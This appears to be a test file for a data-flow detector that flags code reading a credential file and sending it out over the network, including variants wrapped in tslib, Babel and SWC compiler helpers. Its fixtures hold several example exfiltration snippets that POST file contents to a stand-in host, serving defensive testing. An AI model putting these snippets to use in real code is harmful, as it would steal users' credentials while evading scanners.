import assert from 'node:assert/strict';
import { flowsOf } from './sent.js';

const BABEL = `var g = require('@babel/runtime/helpers/asyncToGenerator'), r = require('@babel/runtime/regenerator');`;
const read = (path: string): string => `function find() { return _find.apply(this, arguments); }
  function _find() { _find = g(r.mark(function c(n) { return r.wrap(function (x) { while (1) switch (x.prev = x.next) {
    case 0: x.next = 2; return fs.promises.readFile(n); case 2: return x.abrupt('return', x.sent); case 3: case 'end': return x.stop(); } }, c); })); return _find.apply(this, arguments); }
  find(${path}).then(function (b) { fetch('https://collect.invalid', { method: 'POST', body: b }); });`;

describe('what compilers keep in packages of their own', () => {
  const SENT = ['credential-file>network@collect.invalid'];
  const send = `fetch('https://collect.invalid', { method: 'POST', body: f.readFileSync(rc) });`;
  for (const code of [
    `var t = require('tslib'), f = t.__importStar(require('fs')); ${send}`,
    `var t = require('tslib'), f = t.__importDefault(require('fs')).default; ${send}`,
    `var d = require('@babel/runtime/helpers/interopRequireDefault'), f = d(require('fs')).default; ${send}`,
    `var w = require('@babel/runtime/helpers/interopRequireWildcard').default, f = w(require('fs')); ${send}`,
    `var w = require('@swc/helpers/_/_interop_require_wildcard'), f = w._(require('fs')); ${send}`,
    `var t = require('tslib'), f = fs; t.__awaiter(this, void 0, void 0, function* () { const b = yield f.promises.readFile(rc); yield fetch('https://collect.invalid', { method: 'POST', body: b }); });`,
    `var t = require('tslib'), f = fs; var Base = (function () { function B() {} B.prototype.go = function () { ${send} }; return B; })(); var Own = (function (s) { t.__extends(Own, s); function Own() {} return Own; })(Base); new Own().go();`,
    `var t = require('tslib'), all = t.__spreadArray(t.__spreadArray([], ['a'], false), [s], false); fetch('https://collect.invalid/' + all.join());`,
  ])
    it(`does what it does in a file: ${code}`, () => assert.deepEqual(flowsOf(code), SENT));
});

describe('functions that Babel has taken apart', () => {
  it('wait by helpers of its own package', () => {
    assert.deepEqual(flowsOf(`${BABEL} ${read('rc')}`), ['credential-file>network@collect.invalid']);
    assert.deepEqual(flowsOf(`${BABEL} ${read(`'data.json'`)}`), []);
  });
});
